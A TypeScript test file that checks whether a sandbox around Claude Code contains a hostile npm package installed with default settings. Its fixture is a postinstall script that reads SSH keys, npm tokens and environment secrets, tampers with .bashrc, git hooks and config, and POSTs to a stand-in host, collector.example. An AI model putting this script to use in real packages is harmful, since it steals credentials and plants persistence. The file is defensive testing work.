import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { runClaude } from '../world/agents/claude-headless.ts'
import { claudeWorld } from '../world/claude-world.ts'
import { lastRequestOf } from '../world/model.ts'
import { npmRegistry } from '../world/registry.ts'
import { scratch } from '../world/scratch.ts'
import { call, say } from '../world/turn.ts'

const REGISTRY_TOKEN = 'the-registry-token'

/** Tries each thing and writes down what came of it, where the test can read it. */
const HOSTILE = `const fs = require('node:fs'), net = require('node:net'), http = require('node:http'), path = require('node:path')
const { home, state, project, port, daemon } = JSON.parse(fs.readFileSync(path.join(__dirname, 'places.json'), 'utf8'))
const result = {}
const attempt = (name, act) => { try { result[name] = act() ?? 'done' } catch (error) { result[name] = error.code ?? String(error) } }
attempt('ssh key', () => fs.readFileSync(path.join(home, '.ssh/id_ed25519'), 'utf8'))
attempt('npm token', () => fs.readFileSync(path.join(home, '.npmrc'), 'utf8'))
attempt('baton token', () => fs.readdirSync(state).join())
attempt('bashrc', () => fs.appendFileSync(path.join(home, '.bashrc'), 'echo hostile'))
attempt('git hook', () => fs.writeFileSync(path.join(project, '.git/hooks/pre-commit'), 'hostile', { mode: 0o755 }))
attempt('git config', () => fs.appendFileSync(path.join(project, '.git/config'), '[core]\\n\\tfsmonitor = hostile'))
attempt('claude settings', () => { fs.mkdirSync(path.join(project, '.claude'), { recursive: true }); fs.writeFileSync(path.join(project, '.claude/settings.json'), '{"hooks":{}}') })
attempt('environment', () => Object.entries(process.env).filter(([name]) => /TOKEN|KEY|SECRET/.test(name)).join())
const direct = (name, port) => new Promise(done => {
  const socket = net.connect(port, '127.0.0.1', () => { result[name] = 'connected'; socket.destroy(); done() })
  socket.on('error', error => { result[name] = error.code; done() })
})
const proxied = (name, url, method) => new Promise(done => {
  const proxy = new URL(process.env.http_proxy)
  http.request({ host: proxy.hostname, port: proxy.port, path: url, method, headers: { host: new URL(url).host } }, answer => {
    result[name] = answer.statusCode; answer.resume(); answer.on('end', done)
  }).on('error', error => { result[name] = error.code; done() }).end()
})
const registry = process.env.npm_config_registry ?? 'http://127.0.0.1:1/'
;(async () => {
  await direct('connect out', port)
  await direct('baton port', daemon)
  await proxied('connect out by proxy', 'http://127.0.0.1:' + port + '/', 'POST')
  await proxied('baton port by proxy', 'http://127.0.0.1:' + daemon + '/api/health', 'GET')
  await proxied('send away', 'http://collector.example/stolen', 'POST')
  await proxied('publish', registry.replace(/\\/?$/, '/') + 'hostile', 'PUT')
  fs.writeFileSync(path.join(project, 'result.json'), JSON.stringify(result))
})()`

test('a hostile package that the real Claude Code installs with default settings gets nothing, and the recap says what it tried', {
  timeout: 480_000,
}, async () => {
  const folder = scratch('bh-')
  const reached: string[] = []
  const outside = createServer(socket => {
    reached.push('outside')
    socket.destroy()
  })
  await new Promise<void>(done => outside.listen(0, '127.0.0.1', done))
  await using here = await claudeWorld()
  const { model, home, baton } = here
  const { project } = home
  const endpoint = JSON.parse(readFileSync(join(baton.stateDir, 'endpoint.json'), 'utf8')) as { url: string }
  const places = {
    home: home.path,
    state: baton.stateDir,
    project,
    port: (outside.address() as AddressInfo).port,
    daemon: Number(new URL(endpoint.url).port),
  }
  await using registry = await npmRegistry(folder.path, 'hostile', {
    'package.json': JSON.stringify({
      name: 'hostile',
      version: '1.0.0',
      hasInstallScript: true,
      scripts: { postinstall: 'node steal.js' },
    }),
    'steal.js': HOSTILE,
    'places.json': JSON.stringify(places),
  })
  const secrets = { '.ssh/id_ed25519': 'the-ssh-key', '.bashrc': 'mine\n' }
  const login = `${registry.url.replace('http:', '')}:_authToken=${REGISTRY_TOKEN}\n`
  for (const [name, text] of Object.entries({ ...secrets, '.npmrc': `registry=${registry.url}\n${login}` })) {
    mkdirSync(join(home.path, name, '..'), { recursive: true })
    writeFileSync(join(home.path, name), text)
  }
  writeFileSync(join(project, 'package.json'), '{"dependencies":{"hostile":"1.0.0"}}')
  const config = readFileSync(join(project, '.git/config'), 'utf8')

  const install = 'npm install --foreground-scripts && echo installed-it'
  model.script({ key: home.key }, [call('Bash', { command: install }), say('done')])
  const ran = await runClaude({ home, model, prompt: 'install', timeout: 360_000 })
  expect(ran.isError).toBe(false)
  expect(lastRequestOf(model, home)).toContain('installed-it')

  // It ran, as any install script does.
  const result = JSON.parse(readFileSync(join(project, 'result.json'), 'utf8'))
  expect(result).toMatchObject({
    'ssh key': 'ENOENT',
    'baton token': 'ENOENT',
    'git hook': expect.stringMatching(/^E(ROFS|NOENT|ACCES)$/),
    'git config': expect.stringMatching(/^E(ROFS|ACCES)$/),
    'connect out': 'ECONNREFUSED',
    'baton port': 'ECONNREFUSED',
    'connect out by proxy': 403,
    'baton port by proxy': 403,
    'send away': 403,
    publish: 403,
  })
  expect(JSON.stringify(result)).not.toMatch(/the-ssh-key|the-registry-token/)
  expect(reached).toEqual([])
  expect(readFileSync(join(home.path, '.bashrc'), 'utf8')).toBe('mine\n')
  expect(readFileSync(join(project, '.git/config'), 'utf8')).toBe(config)
  expect(existsSync(join(project, '.git/hooks/pre-commit'))).toBe(false)
  expect(existsSync(join(project, '.claude/settings.json'))).toBe(false)
  expect(registry.requests.filter(({ line }) => !/^GET /.test(line))).toEqual([])
  expect(registry.requests.some(({ authorization }) => authorization === 'Bearer the-registry-token')).toBe(
    true,
  )

  const bodies = (await baton.entries({})).map(({ body }) => body)
  expect(bodies.filter(({ kind }) => kind === 'fault')).toEqual([])
  // The person is asked once about the unknown host, and about nothing else. Nothing waited for the answer.
  expect(bodies.flatMap(body => (body.kind === 'ask' && body.what === 'opened' ? [body.title] : []))).toEqual(
    ['Let commands contact http://collector.example?'],
  )
  expect(bodies).toContainEqual(
    expect.objectContaining({ kind: 'decision', subject: install, decision: 'allow', by: 'sandbox' }),
  )
  const recap = await baton.must('recap', '--since', '1h')
  for (const words of ['contact collector.example', `contact PUT 127.0.0.1:${registry.port}`, 'make .claude'])
    expect(recap).toContain(words)
  // The agent learns it too.
  expect(lastRequestOf(model, home)).toContain("Baton's sandbox blocks http://collector.example")
  outside.close()
  folder.remove()
})
